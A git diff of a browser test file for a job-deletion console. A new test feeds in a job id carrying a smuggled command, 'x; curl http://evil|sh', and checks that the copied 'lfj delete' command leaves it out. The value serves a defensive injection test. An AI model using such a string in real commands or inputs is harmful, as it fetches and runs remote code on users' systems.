@@ -1,3 +1,4 @@
+import { refusedErrorCode } from '@lakeformation-jobs/contract';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
 import { FaultProxy } from '../../src/fault-proxy.ts';
@@ -133,6 +134,26 @@ inBrowser('the console while it deletes', (open) => {
     expect(await page.locator(`tr[data-job="${ids[1]}"]`).getByRole('button').count()).toBe(0);
   });
 
+  it('an id from a service that is none of the contract does not get into the copied command', async () => {
+    const { page } = await open();
+    const good = '03141229-84cd-4b1b-9733-dd124320c125';
+    const hostile = 'x; curl http://evil|sh\n';
+    const jobs = [good, hostile].map((id, index) => ({ id, name: `job_${index}`, type: 'METADATA_MIGRATION', status: 'SUCCESS', create_time: '2023-05-27T10:04:35.743Z' }));
+    await page.route('**/lf-jobs?*', (route) => route.fulfill({ json: { total: 2, jobs } }));
+    await page.route(`**/lf-jobs/${good}`, (route) => route.fulfill({ status: 400, json: { error_code: 'lf.0001', error_msg: 'no' } }));
+    await page.goto(`${proxy.address}/console/?type=METADATA_MIGRATION`);
+    await signIn(page);
+    for (const row of [0, 1]) await rowsOf(page).nth(row).getByRole('checkbox').click();
+    await page.getByRole('button', { name: 'Delete …' }).click();
+    await confirm(page, 2);
+    await ended(page, 2);
+    await page.getByText('1 ID is left out of the lfj command').waitFor();
+    await page.getByRole('button', { name: 'Copy as lfj command' }).click();
+    await page.getByRole('button', { name: 'Copied' }).waitFor();
+    const command = await page.evaluate<string>('navigator.clipboard.readText()');
+    expect(command).toMatch(new RegExp(`^npx --no lfj delete [^;|\n]* -- ${good}$`));
+  });
+
   it('a problem gives its request ID away', async () => {
     const { page } = await open();
     await page.route('**/lf-jobs?*', (route) => route.fulfill({ status: 403, headers: { 'X-request-id': 'request-of-the-list' }, json: { error_code: 'lf.0403', error_msg: 'no' } }));
@@ -144,13 +165,19 @@ inBrowser('the console while it deletes', (open) => {
     expect(await page.evaluate('navigator.clipboard.readText()')).toBe('request-of-the-list');
   });
 
-  /** Whether the middle of something can be scrolled to, and then is what stands there. */
+  /** Whether something can be scrolled to so that it is seen whole, or 80 pixels of it, and nothing stands before it. */
   const reached = (page: Page, selector: string): Promise<unknown> => page.evaluate(`(() => {
     const element = document.querySelector(${JSON.stringify(selector)});
     element.scrollIntoView({ block: 'center' });
-    const { left, top, width, height } = element.getBoundingClientRect();
-    const there = document.elementFromPoint(left + width / 2, top + height / 2);
-    return there !== null && (element.contains(there) || there.contains(element) && there.closest('dialog') !== there) && height > 0;
+    const own = element.getBoundingClientRect();
+    let [top, bottom] = [Math.max(0, own.top), Math.min(innerHeight, own.bottom)];
+    for (let around = element.parentElement; around; around = around.parentElement) {
+      if (getComputedStyle(around).overflowY === 'visible') continue;
+      const rect = around.getBoundingClientRect();
+      [top, bottom] = [Math.max(top, rect.top), Math.min(bottom, rect.bottom)];
+    }
+    const there = document.elementFromPoint(own.left + own.width / 2, (top + bottom) / 2);
+    return own.height > 0 && bottom - top > Math.min(own.height, 80) - 1 && element.contains(there);
   })()`);
 
   /** What is wider than its place, within the dialog and around it. */
@@ -164,11 +191,15 @@ inBrowser('the console while it deletes', (open) => {
     await page.setViewportSize({ width: 320, height: 256 });
     expect(await sideways(page)).toEqual([]);
     for (const part of ['h2', 'tr:last-child td', 'input', 'button:last-of-type']) expect([part, await reached(page, `dialog ${part}`)]).toEqual([part, true]);
-    await page.route(`**/lf-jobs/*`, (route) => (route.request().method() === 'DELETE' && !route.request().url().includes(ids[2]!)
-      ? route.fulfill({ status: 400, headers: { 'X-request-id': 'request-of-the-refused' }, json: { error_code: 'lf.0001', error_msg: 'It is held by a hand.', solution_msg: 'Ask the hand to let go.' } })
-      : route.continue()));
+    // One fails, and one has to be stopped first: so every button is there.
+    for (const [index, error_code] of ['lf.0001', refusedErrorCode].entries()) {
+      await page.route(`**/lf-jobs/${ids[index]}`, (route) => route.fulfill({
+        status: 400, headers: { 'X-request-id': 'request-of-the-refused' }, json: { error_code, error_msg: 'It is held by a hand.', solution_msg: 'Ask the hand to let go.' },
+      }));
+    }
     await confirm(page, 3);
     await ended(page, 3);
+    expect(await page.locator('dialog button:not(table button)').count()).toBe(6);
     expect(await sideways(page)).toEqual([]);
     for (const id of ids) expect([id, await reached(page, `tr[data-job="${id}"] td`)]).toEqual([id, true]);
     for (const part of ['h2', '[role=progressbar]', `tr[data-job="${ids[0]}"] button`]) expect([part, await reached(page, `dialog ${part}`)]).toEqual([part, true]);
